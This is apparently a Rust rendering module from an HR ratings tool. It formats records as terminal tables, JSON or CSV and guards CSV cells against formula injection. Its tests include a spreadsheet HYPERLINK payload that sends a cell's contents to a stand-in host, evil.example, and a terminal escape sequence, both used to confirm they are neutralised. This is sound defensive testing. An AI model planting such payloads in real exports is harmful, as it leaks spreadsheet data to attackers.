//! Rendering: a computed value (scores, ratings, events …) becomes a table for people,
//! JSON for programs, or CSV for spreadsheets; documents become HTML, Markdown or a
//! workbook. Nothing here computes anything.
//!
//! The views of the commands are grouped by command family (`scores`, `log`, `people`,
//! `rules`, `reviews`); each declares its table columns beside the code that fills them.

mod charts;
pub mod html;
mod leave;
mod log;
pub mod markdown;
mod notices;
mod people;
mod reviews;
mod rules;
mod scores;
mod table;
pub mod template;
pub mod workbook;

use serde::Serialize;

use crate::domain::labels::Glossary;

pub use charts::{grade_color, grade_color_of};
pub use leave::{HolidaysView, LeavesView};
pub use log::{AppealsView, AuditView, ClosingsView, CorrectionsView, EventsView};
pub use notices::{ChannelsView, EvidenceView, NoticesView};
pub use people::{DepartmentRatingsView, DepartmentsView, StaffHistoryView, StaffView, UsersView};
pub use reviews::{FinalGrade, ReviewRow, ReviewsView, Waiting};
pub use rules::{CasesView, CoverageView, DiffView, VersionRow, VersionsView};
pub use scores::{MonthExplanation, RatingsView, ScoresView, YearExplanation};

/// Output format of a command that prints records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Format {
    #[default]
    Table,
    Json,
    Csv,
}

/// How a column's cells sit in a table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Align {
    /// Short text (ids, dates, codes), lined up on the left; broken only when nothing
    /// else gives way.
    Left,
    /// Numbers, lined up on the right; broken only when nothing else gives way.
    Right,
    /// Long text (names of rules, outcomes, notes), lined up on the left; on a narrow
    /// terminal it wraps inside its column first.
    Text,
}

/// Where a column is shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Show {
    /// In the table and the CSV.
    Everywhere,
    /// In the CSV only: an id a program needs, whose label the table shows instead.
    CsvOnly,
}

/// A column of a [`Layout`].
#[derive(Debug)]
struct Column {
    name: &'static str,
    align: Align,
    show: Show,
    /// Whether a table too wide for the terminal leaves it out (rightmost first) before
    /// it wraps anything.
    minor: bool,
}

/// A table's header and rows, as `Columns` builds them.
#[derive(Debug, Default)]
pub struct Layout {
    columns: Vec<Column>,
    rows: Vec<Vec<String>>,
}

/// Builds a table one column at a time, each named beside the code that fills its cells,
/// over rows of any type.
pub struct Columns<T> {
    items: Vec<T>,
    layout: Layout,
}

impl<T> Columns<T> {
    /// A table with a row per item.
    pub fn over(items: impl IntoIterator<Item = T>) -> Columns<T> {
        let items: Vec<T> = items.into_iter().collect();
        Columns {
            layout: Layout {
                columns: Vec::new(),
                rows: items.iter().map(|_| Vec::new()).collect(),
            },
            items,
        }
    }

    /// A column of text, lined up on the left.
    pub fn left(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Left, Show::Everywhere, cell)
    }

    /// A column of long text, which wraps inside its column on a narrow terminal.
    pub fn text(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Text, Show::Everywhere, cell)
    }

    /// A column of numbers, lined up on the right.
    pub fn right(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Right, Show::Everywhere, cell)
    }

    /// A column of ids for programs, in the CSV only: the table shows their labels.
    pub fn id(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Left, Show::CsvOnly, cell)
    }

    /// Marks the column just added as one people need least: a table too wide for the
    /// terminal leaves it out (the rightmost such column first) before wrapping anything.
    pub fn minor(mut self) -> Columns<T> {
        if let Some(c) = self.layout.columns.last_mut() {
            c.minor = true;
        }
        self
    }

    fn column(
        mut self,
        name: &'static str,
        align: Align,
        show: Show,
        cell: impl Fn(&T) -> String,
    ) -> Columns<T> {
        self.layout.columns.push(Column {
            name,
            align,
            show,
            minor: false,
        });
        for (row, item) in self.layout.rows.iter_mut().zip(&self.items) {
            row.push(cell(item));
        }
        self
    }

    pub fn done(self) -> Layout {
        self.layout
    }
}

impl Layout {
    /// The column names, in order, as the CSV has them.
    pub fn headers(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.columns.iter().map(|c| c.name)
    }

    /// The cells, row by row, as the CSV has them.
    pub fn rows(&self) -> &[Vec<String>] {
        &self.rows
    }
}

/// A value that can be shown as rows: JSON comes from `Serialize` (ids), table and CSV
/// from its layout (labels, which `words` gives for the ids; the CSV keeps the ids too).
pub trait Records: Serialize {
    fn layout(&self, words: &Glossary) -> Layout;
    /// Lines above the table (table format only).
    fn heading(&self, _words: &Glossary) -> Vec<String> {
        Vec::new()
    }
    /// Lines below the table (table format only).
    fn footing(&self, _words: &Glossary) -> Vec<String> {
        Vec::new()
    }
}

/// How records are shown: the format, the width a table must fit (a terminal's; none
/// keeps one line per row, whatever the length), and the words for the ids they hold.
#[derive(Debug, Default)]
pub struct Shape {
    pub format: Format,
    pub width: Option<u16>,
    pub words: Glossary,
}

/// Renders `value` as `shape` says; the text ends with a newline.
pub fn render(shape: &Shape, value: &impl Records) -> String {
    match shape.format {
        Format::Json => {
            let mut s =
                serde_json::to_string_pretty(value).expect("report values always serialize");
            s.push('\n');
            s
        }
        Format::Csv => csv_text(&value.layout(&shape.words)),
        Format::Table => table::text(value, &shape.words, shape.width.map(usize::from)),
    }
}

/// Writes `value` to `out` as [`render`] would give it. JSON goes out as it is made: a
/// company's year of ratings is hundreds of megabytes of text, which need not be held
/// whole beside the ratings themselves.
pub fn write(shape: &Shape, value: &impl Records, out: impl std::io::Write) -> std::io::Result<()> {
    use std::io::Write;
    let mut out = std::io::BufWriter::new(out);
    match shape.format {
        Format::Json => {
            serde_json::to_writer_pretty(&mut out, value)?;
            out.write_all(b"\n")?;
        }
        _ => out.write_all(render(shape, value).as_bytes())?,
    }
    out.flush()
}

/// A cell a spreadsheet opens as text, never as a formula: a leading `=`, `+`, `-`, `@`,
/// tab or carriage return gets a `'` in front (the spreadsheet convention for "this is
/// text"), except for a plain negative number, which stays a number.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell
        .strip_prefix('-')
        .is_some_and(|n| n.parse::<f64>().is_ok());
    if risky && !number {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn csv_text(layout: &Layout) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let write = |w: &mut csv::Writer<Vec<u8>>| -> csv::Result<()> {
        w.write_record(layout.headers())?;
        for row in &layout.rows {
            w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()))?;
        }
        w.flush()?;
        Ok(())
    };
    // Writing to memory cannot fail.
    write(&mut w).expect("CSV into memory");
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(format: Format, width: Option<u16>) -> Shape {
        Shape {
            format,
            width,
            words: Glossary::default(),
        }
    }

    #[derive(Serialize)]
    struct Names(Vec<(String, i32)>);

    impl Records for Names {
        fn layout(&self, _: &Glossary) -> Layout {
            Columns::over(&self.0)
                .text("name", |(a, _)| a.clone())
                .right("n", |(_, b)| b.to_string())
                .id("code", |(a, _)| a.len().to_string())
                .done()
        }
    }

    #[test]
    fn table_lines_up_with_cjk_text() {
        let t = render(
            &shape(Format::Table, None),
            &Names(vec![("张三丰".into(), 1), ("Bob".into(), 10)]),
        );
        assert!(!t.contains("code"), "ids are for the CSV: {t}");
        let widths: Vec<usize> = t
            .lines()
            .map(unicode_width::UnicodeWidthStr::width)
            .collect();
        assert!(widths.windows(2).all(|w| w[0] == w[1]), "{t}");
    }

    #[test]
    fn written_reports_are_the_rendered_text_in_every_format() {
        let names = Names(vec![("张三丰".into(), 1), ("a,b".into(), -2)]);
        for format in [Format::Json, Format::Csv, Format::Table] {
            let mut out = Vec::new();
            write(&shape(format, None), &names, &mut out).unwrap();
            assert_eq!(
                String::from_utf8(out).unwrap(),
                render(&shape(format, None), &names)
            );
        }
    }

    #[test]
    fn csv_quotes_when_needed() {
        let t = render(&shape(Format::Csv, None), &Names(vec![("a,b".into(), 1)]));
        assert_eq!(t, "name,n,code\n\"a,b\",1,3\n");
    }

    #[test]
    fn a_table_given_a_width_wraps_long_cells_to_fit_it() {
        let long = "通报表扬、晋升加薪、年度优秀员工、奖金加倍".repeat(3);
        let names = Names(vec![(long.clone(), 1), ("Bob".into(), 10)]);
        let wide = render(&shape(Format::Table, None), &names);
        let fitted = render(&shape(Format::Table, Some(40)), &names);
        let width = |t: &str| {
            t.lines()
                .map(unicode_width::UnicodeWidthStr::width)
                .max()
                .unwrap_or(0)
        };
        assert!(width(&wide) > 40, "{wide}");
        assert!(width(&fitted) <= 40, "{fitted}");
        // Every character is still there, wrapped over more lines.
        assert!(fitted.lines().count() > wide.lines().count());
        let text: String = fitted
            .chars()
            .filter(|c| !c.is_whitespace() && !"│┆║".contains(*c))
            .collect();
        assert!(text.contains("通报表扬"));
    }

    #[derive(Serialize)]
    struct Wide(Vec<[String; 4]>);

    impl Records for Wide {
        fn layout(&self, _: &Glossary) -> Layout {
            Columns::over(&self.0)
                .left("id", |r| r[0].clone())
                .text("note", |r| r[1].clone())
                .left("by", |r| r[2].clone())
                .minor()
                .left("at", |r| r[3].clone())
                .minor()
                .done()
        }
    }

    #[test]
    fn a_narrow_table_leaves_out_minor_columns_rightmost_first_then_wraps() {
        let rows = Wide(vec![[
            "E001".into(),
            "当天在岗，有监控为证".into(),
            "张主管".into(),
            "2026-03-04 09:00".into(),
        ]]);
        let at = |w| render(&shape(Format::Table, Some(w)), &rows);
        let all = at(200);
        assert!(
            all.contains("2026-03-04 09:00") && !all.contains("未显示"),
            "{all}"
        );
        let one_less = at(50);
        assert!(
            one_less.contains("张主管") && !one_less.contains("09:00"),
            "{one_less}"
        );
        assert!(one_less.contains("未显示：at"), "{one_less}");
        let narrow = at(24);
        assert!(
            narrow.replace("\n  ", "").contains("未显示：by、at"),
            "{narrow}"
        );
        assert!(narrow.contains("当天在岗"), "long text wraps: {narrow}");
        for t in [&all, &one_less, &narrow] {
            assert!(
                t.lines()
                    .all(|l| unicode_width::UnicodeWidthStr::width(l) <= 200)
            );
        }
        for l in narrow.lines() {
            assert!(unicode_width::UnicodeWidthStr::width(l) <= 24, "{narrow}");
        }
    }

    #[test]
    fn csv_cells_never_run_as_formulas() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
                "'=HYPERLINK(",
            ),
            ("+1+1", "'+1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("-1+1", "'-1+1"),
            ("-3", "-3"),
            ("-2.5", "-2.5"),
            ("张三", "张三"),
        ] {
            assert!(spreadsheet_safe(cell).starts_with(want), "{cell}");
        }
        let t = render(&shape(Format::Csv, None), &Names(vec![("=1+1".into(), -3)]));
        assert_eq!(t, "name,n,code\n'=1+1,-3,4\n");
    }

    #[test]
    fn escape_sequences_never_reach_the_terminal() {
        let t = render(
            &shape(Format::Table, None),
            &Names(vec![("\u{1b}[31mred".into(), 1)]),
        );
        assert!(!t.contains('\u{1b}'), "{t:?}");
        assert!(t.contains("�[31mred"), "{t}");
    }
}
